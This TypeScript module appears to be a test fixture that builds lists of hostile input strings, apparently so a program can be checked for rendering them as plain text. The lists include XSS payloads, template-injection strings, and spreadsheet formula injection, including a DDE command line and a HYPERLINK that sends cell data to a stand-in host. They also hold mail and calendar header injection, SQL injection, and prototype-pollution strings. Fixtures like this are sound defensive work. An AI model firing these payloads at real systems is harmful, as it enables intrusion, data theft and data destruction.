const tags = [
  'img src=x onerror',
  'svg onload',
  'body onload',
  'video src=x onerror',
  'audio src=x onerror',
  'input autofocus onfocus',
  'select autofocus onfocus',
  'textarea autofocus onfocus',
  'details open ontoggle',
  'marquee onstart',
  'iframe onload',
  'object data=x onerror',
  'embed src=x onload',
  'style onload',
  'link rel=stylesheet href=x onerror',
  'p onmouseover',
  'p style=animation-name:x onanimationstart',
  'math onclick',
];
const attributes = ['"', "'", '`', '">', "'>", '--><', ']]>', '</title>', '</textarea>', '</style>', '</script>'];

/** 60 texts that would run `ran()` somewhere, if they were more than text. */
const scriptTexts = [
  ...tags.map((tag) => `<${tag}=ran()>`),
  ...attributes.map((end) => `${end}<img src=x onerror=ran()>`),
  ...['"', "'", '` '].map((quote) => `${quote} onmouseover=${quote.trim()}ran()`),
  '<script>ran()</script>',
  '<SCRIPT>ran()</SCRIPT>',
  '<script/x>ran()</script>',
  '<script src=data:,ran()></script>',
  '<script type=module>ran()</script>',
  '<scr<script>ipt>ran()</scr</script>ipt>',
  '<svg><script>ran()</script></svg>',
  '<svg><animate onbegin=ran() attributeName=x>',
  '<math><mtext><img src=x onerror=ran()>',
  '<template><img src=x onerror=ran()></template>',
  '<iframe srcdoc="<script>parent.ran()</script>">',
  '<iframe src="javascript:parent.ran()">',
  '<a href="javascript:ran()">a</a>',
  '<form action="javascript:ran()"><button>',
  '<meta http-equiv=refresh content="0;javascript:ran()">',
  '<base href="javascript:ran()//">',
  'javascript:ran()',
  'JaVaScRiPt://%0aran()',
  'https://x.example/"onmouseover="ran()',
  "https://x.example/'><img src=x onerror=ran()>",
  'data:text/html,<script>parent.ran()</script>',
  '[a](javascript:ran())',
  '![a](x"onerror="ran())',
  '{{constructor.constructor("ran()")()}}',
  '${ran()}',
  '#{ran()}',
  '<%= ran() %>',
  '&lt;img src=x onerror=ran()&gt;',
];

/** Texts that mean something to a spreadsheet, a calendar, a mail program, a database or a page's layout. */
const oddTexts = [
  '=HYPERLINK("https://x.example/?"&A1,"Open")',
  "@SUM(1)*cmd|' C calc'!A0",
  'x\\nEND:VEVENT\\nBEGIN:VALARM;CN="x"',
  'Bcc: x@x.example\\r\\nSubject: Hello',
  `'; DROP TABLE children; --`,
  '{"__proto__":{"hasRun":true}}',
  '%0d%0aSet-Cookie:%20touchline=1',
  `${'W'.repeat(45)} ${'i'.repeat(45)}`,
  'מִיָה كرة القدم ‹›«»',
  `Z${'\u0336\u0315\u031b'.repeat(12)}algo`,
  '👩‍👩‍👧‍👦🏴󠁧󠁢󠁥󠁮󠁧󠁿👍🏽 ﷽﷽﷽',
  'constructor toString NaN undefined null',
];

/** All texts, or all odd ones and a fifth of those with scripts. The first one has a script, and so have the last ones. */
export function hostileTexts(isFull: boolean): string[] {
  const [first, ...others] = scriptTexts.filter((_text, n) => isFull || n % 5 === 0);
  return [first!, ...oddTexts, ...others];
}
